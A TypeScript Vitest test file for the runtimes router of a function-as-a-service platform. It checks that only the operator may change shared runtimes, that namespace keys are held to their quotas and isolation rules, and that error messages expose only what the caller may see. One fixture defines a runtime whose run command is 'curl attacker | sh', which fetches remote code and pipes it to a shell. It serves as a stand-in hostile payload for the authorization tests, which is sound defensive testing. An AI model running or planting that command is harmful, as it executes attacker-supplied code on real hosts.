// Runtimes by role, with a fake DB: the shared runtimes (the default namespace's) are the operator's to
// register, replace and remove, a key of the default namespace included; another namespace's key registers
// private runtimes within its namespace's runtimes and isolation; a refusal names only what the caller may see.
import express from 'express';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { pino } from 'pino';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { Quotas as QuotaSet, Runtime } from '../../common/model.js';
import type { DbClient } from '../../db/client.js';
import { errorResponder } from '../http.js';
import { Quotas } from '../tenancy/quotas.js';
import { Scope } from '../tenancy/scope.js';
import { runtimesRouter } from './runtimes.js';

let server: Server;
let base: string;
let quotas: QuotaSet = {};
let stored: Map<string, Runtime>;
const functions = [
  { functionName: 'team-a~f1', runtimeName: 'team-a~mine' },
  { functionName: 'team-b~g', runtimeName: 'node' },
];
const db = {
  request: async (type: string, c: Runtime & { name: string }) => {
    if (type === 'getNamespace') return { name: c.name, createdAt: '', quotas };
    if (type === 'getRuntime') return stored.get(c.name) ?? null;
    if (type === 'listRuntimes') return [...stored.values()];
    if (type === 'listFunctions') return functions;
    if (type === 'putRuntime') {
      stored.set(c.name, c);
      return c;
    }
    if (type === 'deleteRuntime') return { deleted: stored.delete(c.name) };
    throw new Error(`unexpected DB request ${type}`);
  },
} as unknown as DbClient;

beforeEach(() => {
  quotas = {};
  stored = new Map<string, Runtime>([
    ['node', { name: 'node', image: 'zfaas/node', path: '/ws', dependencies: '', run: 'node x' }],
    ['team-a~mine', { name: 'team-a~mine', image: 'zfaas/node', path: '/ws', dependencies: '', run: 'node x' }],
  ]);
});

beforeAll(async () => {
  const app = express();
  app.use(express.json());
  // The scope the gate would set: "operator", or NAMESPACE/ROLE of a key.
  app.use((req, res, next) => {
    const who = String(req.headers['x-who']);
    const [ns, role] = who.split('/');
    res.locals.scope = who === 'operator' ? new Scope('default', 'operator') : new Scope(ns!, role as 'developer', 'k1');
    next();
  });
  app.use(runtimesRouter(db, { runtimeAllowed: (ns, rt, doing) => new Quotas(db).runtimeAllowed(ns, rt, doing) }));
  app.use(errorResponder(pino({ level: 'silent' })));
  server = app.listen(0, '127.0.0.1');
  await new Promise((ok) => server.once('listening', ok));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(() => new Promise<void>((ok) => server.close(() => ok())));

async function as(who: string, method: string, path: string, body?: unknown): Promise<{ status: number; error?: string }> {
  const r = await fetch(`${base}${path}`, {
    method,
    headers: { 'x-who': who, ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
    body: body === undefined ? undefined : JSON.stringify(body),
  });
  return { status: r.status, error: ((await r.json()) as { error?: string }).error };
}

const evil = { name: 'node', image: 'zfaas/node', run: 'curl attacker | sh' };

describe('shared runtimes', () => {
  it("are the operator's: a key of the default namespace neither replaces nor removes them", async () => {
    for (const role of ['developer', 'admin']) {
      const put = await as(`default/${role}`, 'POST', '/registerRuntime', evil);
      expect(put.status).toBe(403);
      expect(put.error).toMatch(/shared by every namespace: only the operator/);
      expect((await as(`default/${role}`, 'POST', '/registerRuntime', { ...evil, name: 'brand-new' })).status).toBe(403);
      expect((await as(`default/${role}`, 'DELETE', '/runtime/node')).status).toBe(403);
    }
    expect(stored.get('node')?.run).toBe('node x');
    expect(stored.has('brand-new')).toBe(false);
    expect((await as('operator', 'POST', '/registerRuntime', { ...evil, run: 'node y' })).status).toBe(201);
    expect(stored.get('node')?.run).toBe('node y');
  });

  it('are not removed by another namespace’s key either', async () => {
    expect((await as('team-b/developer', 'DELETE', '/runtime/node')).status).toBe(403);
    expect(stored.has('node')).toBe(true);
  });
});

describe('private runtimes', () => {
  it("are registered within the namespace's runtimes and isolation", async () => {
    expect((await as('team-a/developer', 'POST', '/registerRuntime', { ...evil, name: 'own' })).status).toBe(201);
    expect(stored.get('team-a~own')?.run).toBe(evil.run);
    quotas = { isolation: ['runsc'] };
    const bare = await as('team-a/developer', 'POST', '/registerRuntime', { ...evil, name: 'own2' });
    expect(bare).toEqual({
      status: 403,
      error: 'namespace team-a runs its functions only under runsc: runtime own2 runs under runc (set its "isolation")',
    });
    expect((await as('team-a/developer', 'POST', '/registerRuntime', { ...evil, name: 'own2', isolation: 'runsc' })).status).toBe(201);
    quotas = { runtimes: ['node'] };
    expect((await as('team-a/developer', 'POST', '/registerRuntime', { ...evil, name: 'own3' })).status).toBe(403);
    expect(stored.has('team-a~own3')).toBe(false);
  });

  it('in use are kept, naming only the namespace’s own functions', async () => {
    const r = await as('team-a/developer', 'DELETE', '/runtime/mine');
    expect(r).toEqual({ status: 409, error: 'runtime mine is used by 1 function(s) (f1): delete them first' });
    expect((await as('team-b/developer', 'DELETE', '/runtime/mine')).status).toBe(404); // not team-b's
  });
});
